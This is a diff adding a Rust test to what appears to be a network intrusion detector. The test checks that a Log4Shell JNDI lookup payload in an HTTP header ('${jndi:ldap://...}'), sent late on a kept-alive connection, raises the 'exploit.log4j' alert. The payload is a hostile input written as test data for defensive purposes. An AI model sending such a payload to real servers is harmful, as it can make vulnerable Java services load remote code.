@@ -200,6 +200,26 @@ mod tests {
     }
 
     #[test]
+    fn a_request_late_on_a_connection_that_is_kept_is_read() {
+        let (client, server) = ((scenes::ip("203.0.113.5"), 50_000), (scenes::ip("192.0.2.1"), 80));
+        let mut scene = Scene::new();
+        scene.connect(client, server);
+        for _ in 0..250 {
+            scene.tcp(client, server, scenes::PSH_ACK, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n");
+            scene.tcp(server, client, scenes::PSH_ACK, b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
+        }
+        scene.tcp(
+            client,
+            server,
+            scenes::PSH_ACK,
+            b"GET / HTTP/1.1\r\nX: ${jndi:ldap://203.0.113.9/a}\r\n\r\n",
+        );
+        scene.detection.finish();
+        let told: Vec<&str> = scene.detection.alerts().iter().map(|alert| alert.rule.id).collect();
+        assert_eq!(told, ["exploit.log4j"]);
+    }
+
+    #[test]
     fn every_rule_is_told_of_in_words_and_has_settings_within_their_ranges() {
         let mut ids = HashSet::new();
         for rule in rules() {
